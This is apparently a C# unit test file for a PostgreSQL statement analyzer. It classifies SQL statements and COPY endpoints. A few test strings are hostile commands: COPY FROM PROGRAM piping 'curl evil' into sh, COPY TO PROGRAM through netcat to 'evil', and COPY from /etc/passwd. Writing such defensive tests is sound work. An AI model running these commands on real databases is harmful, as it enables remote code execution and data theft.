namespace ProxyCluster.Sql.Tests;

public sealed class StatementKindTests(AnalyzerFixture fixture) : IClassFixture<AnalyzerFixture>
{
    private readonly SqlAnalyzer _analyzer = fixture.Analyzer;

    [Theory]
    [InlineData("SELECT 1", StatementKind.Select)]
    [InlineData("VALUES (1), (2)", StatementKind.Select)]
    [InlineData("TABLE users", StatementKind.Select)]
    [InlineData("SELECT * INTO t2 FROM t", StatementKind.Select)]
    [InlineData("INSERT INTO t VALUES (1)", StatementKind.Insert)]
    [InlineData("UPDATE t SET a = 1", StatementKind.Update)]
    [InlineData("DELETE FROM t", StatementKind.Delete)]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", StatementKind.Merge)]
    [InlineData("WITH x AS (SELECT 1) DELETE FROM t", StatementKind.Delete)]
    [InlineData("COPY t FROM STDIN", StatementKind.CopyFrom)]
    [InlineData("COPY t TO STDOUT", StatementKind.CopyTo)]
    [InlineData("COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)", StatementKind.CopyTo)]
    [InlineData("COPY t FROM PROGRAM 'curl evil | sh'", StatementKind.CopyProgram)]
    [InlineData("COPY t TO PROGRAM 'nc evil 80'", StatementKind.CopyProgram)]
    [InlineData("CREATE TABLE t (a int)", StatementKind.Ddl)]
    [InlineData("CREATE TABLE t AS SELECT 1", StatementKind.Ddl)]
    [InlineData("CREATE MATERIALIZED VIEW mv AS SELECT 1", StatementKind.Ddl)]
    [InlineData("CREATE VIEW v AS SELECT 1", StatementKind.Ddl)]
    [InlineData("CREATE INDEX ON t (a)", StatementKind.Ddl)]
    [InlineData("ALTER TABLE t ADD COLUMN b int", StatementKind.Ddl)]
    [InlineData("ALTER TABLE t RENAME TO u", StatementKind.Ddl)]
    [InlineData("DROP TABLE t", StatementKind.Ddl)]
    [InlineData("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", StatementKind.Ddl)]
    [InlineData("CREATE ROLE r LOGIN PASSWORD 'x'", StatementKind.Ddl)]
    [InlineData("ALTER ROLE r SET search_path = evil", StatementKind.Ddl)]
    [InlineData("GRANT SELECT ON t TO r", StatementKind.Ddl)]
    [InlineData("COMMENT ON TABLE t IS 'x'", StatementKind.Ddl)]
    [InlineData("CREATE EXTENSION dblink", StatementKind.Ddl)]
    [InlineData("CREATE SCHEMA s", StatementKind.Ddl)]
    [InlineData("CREATE TEMP TABLE users (id int)", StatementKind.Ddl)]
    [InlineData("BEGIN", StatementKind.TransactionControl)]
    [InlineData("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", StatementKind.TransactionControl)]
    [InlineData("COMMIT", StatementKind.TransactionControl)]
    [InlineData("ROLLBACK", StatementKind.TransactionControl)]
    [InlineData("SAVEPOINT s1", StatementKind.TransactionControl)]
    [InlineData("RELEASE SAVEPOINT s1", StatementKind.TransactionControl)]
    [InlineData("ROLLBACK TO SAVEPOINT s1", StatementKind.TransactionControl)]
    [InlineData("END", StatementKind.TransactionControl)]
    [InlineData("PREPARE TRANSACTION 'x'", StatementKind.TransactionControl)]
    [InlineData("SET statement_timeout = 0", StatementKind.Set)]
    [InlineData("SHOW search_path", StatementKind.Show)]
    [InlineData("RESET search_path", StatementKind.Reset)]
    [InlineData("RESET ALL", StatementKind.Reset)]
    [InlineData("SET ROLE postgres", StatementKind.SetRole)]
    [InlineData("RESET ROLE", StatementKind.SetRole)]
    [InlineData("SET SESSION AUTHORIZATION postgres", StatementKind.SetSessionAuthorization)]
    [InlineData("RESET SESSION AUTHORIZATION", StatementKind.SetSessionAuthorization)]
    [InlineData("DISCARD ALL", StatementKind.Discard)]
    [InlineData("LISTEN chan", StatementKind.Listen)]
    [InlineData("NOTIFY chan, 'payload'", StatementKind.Notify)]
    [InlineData("UNLISTEN *", StatementKind.Unlisten)]
    [InlineData("PREPARE p AS SELECT 1", StatementKind.Prepare)]
    [InlineData("EXECUTE p", StatementKind.Execute)]
    [InlineData("DEALLOCATE p", StatementKind.Deallocate)]
    [InlineData("DEALLOCATE ALL", StatementKind.Deallocate)]
    [InlineData("EXPLAIN SELECT 1", StatementKind.Explain)]
    [InlineData("DO $$ BEGIN PERFORM 1; END $$", StatementKind.Do)]
    [InlineData("CALL p()", StatementKind.Call)]
    [InlineData("LOCK TABLE t", StatementKind.Lock)]
    [InlineData("TRUNCATE t", StatementKind.Truncate)]
    [InlineData("VACUUM t", StatementKind.Vacuum)]
    [InlineData("VACUUM ANALYZE t", StatementKind.Vacuum)]
    [InlineData("ANALYZE t", StatementKind.Analyze)]
    [InlineData("LOAD 'plpgsql'", StatementKind.Load)]
    [InlineData("DECLARE c CURSOR FOR SELECT 1", StatementKind.DeclareCursor)]
    [InlineData("FETCH 10 FROM c", StatementKind.Fetch)]
    [InlineData("MOVE NEXT IN c", StatementKind.Fetch)]
    [InlineData("CLOSE c", StatementKind.Close)]
    [InlineData("CHECKPOINT", StatementKind.Utility)]
    [InlineData("CLUSTER t USING t_pkey", StatementKind.Utility)]
    [InlineData("REINDEX TABLE t", StatementKind.Utility)]
    [InlineData("REFRESH MATERIALIZED VIEW mv", StatementKind.Utility)]
    [InlineData("ALTER SYSTEM SET work_mem = '1GB'", StatementKind.Utility)]
    [InlineData("SET CONSTRAINTS ALL DEFERRED", StatementKind.Utility)]
    public void Analyze_Statement_HasKind(string sql, StatementKind expected)
    {
        Assert.Equal(expected, _analyzer.Single(sql).Kind);
    }

    [Fact]
    public void Analyze_ExplainAnalyzeDelete_ExposesTheDeleteItRuns()
    {
        var statement = _analyzer.Single("EXPLAIN ANALYZE DELETE FROM users WHERE id = 1");

        Assert.Equal(StatementKind.Explain, statement.Kind);
        Assert.True(statement.IsExplainAnalyze);
        Assert.Equal(StatementKind.Delete, statement.Inner?.Kind);
        Assert.Equal("users:Delete", statement.Describe());
    }

    [Fact]
    public void Analyze_ExplainOptionListWithAnalyze_IsExplainAnalyze()
    {
        var statement = _analyzer.Single("EXPLAIN (VERBOSE, ANALYZE) UPDATE t SET a = 1");

        Assert.True(statement.IsExplainAnalyze);
        Assert.Equal("t:Update", statement.Describe());
    }

    [Fact]
    public void Analyze_PlainExplain_IsNotAnalyzeButStillReportsInnerAccess()
    {
        var statement = _analyzer.Single("EXPLAIN INSERT INTO t SELECT * FROM s");

        Assert.False(statement.IsExplainAnalyze);
        Assert.Equal("s:Read t:Insert", statement.Describe());
    }

    [Fact]
    public void Analyze_Prepare_ReportsNameAndInnerStatement()
    {
        var statement = _analyzer.Single("PREPARE wipe (int) AS DELETE FROM users WHERE id = $1");

        Assert.Equal("wipe", statement.PreparedStatementName);
        Assert.Equal(StatementKind.Delete, statement.Inner?.Kind);
        Assert.Equal("users:Delete", statement.Describe());
    }

    [Theory]
    [InlineData("EXECUTE wipe(1)", "wipe")]
    [InlineData("DEALLOCATE wipe", "wipe")]
    [InlineData("DEALLOCATE ALL", null)]
    public void Analyze_PreparedStatementCommands_ReportName(string sql, string? expected)
    {
        Assert.Equal(expected, _analyzer.Single(sql).PreparedStatementName);
    }

    [Theory]
    [InlineData("COPY t FROM STDIN", CopyEndpoint.Client)]
    [InlineData("COPY t TO STDOUT", CopyEndpoint.Client)]
    [InlineData("COPY t FROM '/etc/passwd'", CopyEndpoint.ServerFile)]
    [InlineData("COPY t TO '/tmp/out'", CopyEndpoint.ServerFile)]
    [InlineData("COPY t FROM PROGRAM 'id'", CopyEndpoint.Program)]
    [InlineData("SELECT 1", CopyEndpoint.None)]
    public void Analyze_Copy_ReportsEndpoint(string sql, CopyEndpoint expected)
    {
        Assert.Equal(expected, _analyzer.Single(sql).CopyEndpoint);
    }

    [Fact]
    public void Analyze_Ddl_ReportsNodeType()
    {
        Assert.Equal("CreateRoleStmt", _analyzer.Single("CREATE ROLE r").NodeType);
    }
}
